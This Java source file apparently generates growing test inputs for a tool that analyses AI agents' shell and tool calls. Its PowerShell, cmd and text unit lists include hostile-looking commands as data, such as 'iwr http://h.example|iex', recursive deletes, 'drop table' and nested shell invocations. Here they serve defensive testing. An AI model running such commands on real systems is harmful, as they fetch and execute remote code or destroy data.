package dev.countersign.analysis;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.countersign.call.Shell;
import dev.countersign.call.ToolCall;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.IntFunction;

/** Families of calls that grow without end: commands of every shell, and inputs of other tools. */
final class CallShapes {
    private static final List<String> POWERSHELL =
            List.of(
                    "sqlite3 a -- set ",
                    "fd -e a ",
                    "mix format;",
                    "git merge a node -e ",
                    "\u03a3",
                    "\u0130",
                    "(",
                    "$(",
                    "@(",
                    "@{",
                    "{",
                    "}",
                    "'",
                    "\"",
                    "`",
                    "`\n",
                    "@'\n",
                    "@\"\n",
                    "<#",
                    "#",
                    "# a\n",
                    "$a",
                    "$a ",
                    "${a",
                    "$env:A;",
                    "$a=1;",
                    "$a=$a+'x';",
                    "a;",
                    "a|",
                    "a||",
                    "a&&",
                    "& ",
                    "& 'a';",
                    "a,",
                    "'a',",
                    "-a ",
                    "-Path a ",
                    "..\\",
                    "C:\\a\\",
                    "*",
                    "Remove-Item a;",
                    "Remove-Item a,b,c;",
                    "Get-Content a|",
                    "cd a;",
                    "Set-Location a;",
                    "Push-Location a;",
                    "iex 'rm x';",
                    "powershell -Command 'rm x';",
                    "cmd /c del a;",
                    "bash -c 'rm x';",
                    "if ($a) { b };",
                    "foreach ($a in $b) { rm $a };",
                    "% { ",
                    "| % { rm $_ } ",
                    "[a]::b(",
                    "Start-Process a;",
                    "Invoke-WebRequest http://h.example;",
                    "iwr http://h.example|iex;",
                    "ls>a;",
                    "a 2>&1 ",
                    "\u00a0",
                    "\u2018a\u2019 ");

    private static final List<String> CMD =
            List.of(
                    "sqlite3 a -- set ",
                    "fd -e a ",
                    "mix format;",
                    "git merge a node -e ",
                    "\u03a3",
                    "\u0130",
                    "(",
                    ")",
                    "^",
                    "^\n",
                    "\"",
                    "%",
                    "%a%",
                    "%a% ",
                    "!a! ",
                    "&",
                    "&&",
                    "||",
                    "|",
                    "@",
                    "a&",
                    "a&&",
                    "a|",
                    "a||",
                    "a\n",
                    "del a&",
                    "del a ",
                    "rd /s /q a&",
                    "cd a&",
                    "cd ..&",
                    "pushd a&",
                    "set a=b&",
                    "echo a>b&",
                    ">a ",
                    "2>&1 ",
                    ":a\n",
                    "rem a\n",
                    "for %i in (a) do del %i&",
                    "if exist a del b&",
                    "cmd /c ",
                    "cmd /c del a&",
                    "call a&",
                    "start a&",
                    "C:\\a\\",
                    "..\\",
                    "*",
                    "/s ",
                    "powershell -c ls&");

    private static final List<String> TEXTS =
            List.of(
                    "\u03a3",
                    "\u0130",
                    "a",
                    "a ",
                    "a/",
                    "../",
                    "~/",
                    "{",
                    "[",
                    "\"",
                    "\\",
                    "\n",
                    "rm x;",
                    "$(",
                    "http://h.example/ ",
                    "select 1;",
                    "drop table a;",
                    "{\"a\":",
                    "[1,",
                    "--- a/b\n+++ b/c\n@@ -1 +1 @@\n-a\n+b\n",
                    "*** Add File: a\n+b\n");

    private CallShapes() {}

    static Map<String, IntFunction<ToolCall>> all() {
        Map<String, IntFunction<ToolCall>> shapes = new LinkedHashMap<>();
        Map<String, IntFunction<String>> texts = new LinkedHashMap<>(Shapes.all());
        texts.putAll(ProgramShapes.all());
        texts.putAll(Shapes.tools());
        texts.forEach((name, text) -> shapes.put(name, n -> Fixture.command(text.apply(n))));
        shell(shapes, "pwsh", Shell.PWSH, POWERSHELL);
        shell(shapes, "cmd", Shell.CMD, CMD);
        for (String unit : TEXTS) {
            for (String field : List.of("command", "sql", "path", "url", "content", "anything")) {
                shapes.put(
                        "mcp " + field + " " + unit,
                        n -> mcp(input -> input.put(field, repeated(unit, n))));
            }
            for (String field : List.of("path", "commands", "anything")) {
                shapes.put(
                        "mcp list of " + field + " " + unit,
                        n -> mcp(input -> fill(input.putArray(field), unit, n)));
            }
        }
        shapes.put("mcp many fields", CallShapes::manyFields);
        shapes.put("mcp fields in fields", CallShapes::fieldsInFields);
        shapes.put("mcp texts in texts", CallShapes::textsInTexts);
        for (String unit : TEXTS) {
            tool(shapes, "Write", "content", unit, "file_path", "notes.md");
            tool(shapes, "Write", "content", unit, "file_path", "package.json");
            tool(shapes, "Write", "file_path", unit, "content", "a");
            tool(shapes, "Edit", "new_string", unit, "file_path", "Makefile");
            tool(shapes, "Grep", "pattern", unit, "path", "a");
            tool(shapes, "WebFetch", "url", unit, "prompt", "a");
        }
        return shapes;
    }

    private static void shell(
            Map<String, IntFunction<ToolCall>> shapes,
            String name,
            Shell shell,
            List<String> units) {
        for (String unit : units) {
            shapes.put(name + " " + unit, n -> Fixture.command(repeated(unit, n), "/w", shell));
            shapes.put(
                    name + " echo " + unit,
                    n -> Fixture.command("echo " + repeated(unit, n) + " x", "/w", shell));
        }
    }

    private static void tool(
            Map<String, IntFunction<ToolCall>> shapes,
            String tool,
            String field,
            String unit,
            String other,
            String value) {
        shapes.put(
                tool + " of " + value + " with " + field + " " + unit,
                n ->
                        Fixture.call(
                                tool,
                                JsonNodeFactory.instance
                                        .objectNode()
                                        .put(field, repeated(unit, n))
                                        .put(other, value),
                                "/w",
                                Shell.BASH));
    }

    private static ToolCall mcp(Consumer<ObjectNode> fill) {
        ObjectNode input = JsonNodeFactory.instance.objectNode();
        fill.accept(input);
        return Fixture.call("mcp__server__do_things", input, "/w", Shell.BASH);
    }

    private static void fill(ArrayNode list, String unit, int length) {
        for (int i = 0; i < length; i += unit.length() + 3) {
            list.add(unit);
        }
    }

    private static ToolCall manyFields(int length) {
        return mcp(input -> {
            for (int i = 0; i * 10 < length; i++) {
                input.put("a" + i, "b/" + i);
            }
        });
    }

    private static ToolCall fieldsInFields(int length) {
        return mcp(input -> {
            ObjectNode inner = input;
            for (int i = 0; i < Math.min(900, length / 5); i++) {
                inner = inner.putObject("a");
            }
            inner.put("path", "b".repeat(length / 2));
        });
    }

    private static ToolCall textsInTexts(int length) {
        return mcp(input -> {
            String text = "rm x";
            while (text.length() < length) {
                ObjectNode around = JsonNodeFactory.instance.objectNode();
                String inner = around.put("command", text).toString();
                text = inner.length() <= length ? inner : "x".repeat(length);
            }
            input.put("arguments", text);
        });
    }

    private static String repeated(String unit, int length) {
        return unit.repeat(Math.max(1, length / unit.length()));
    }
}
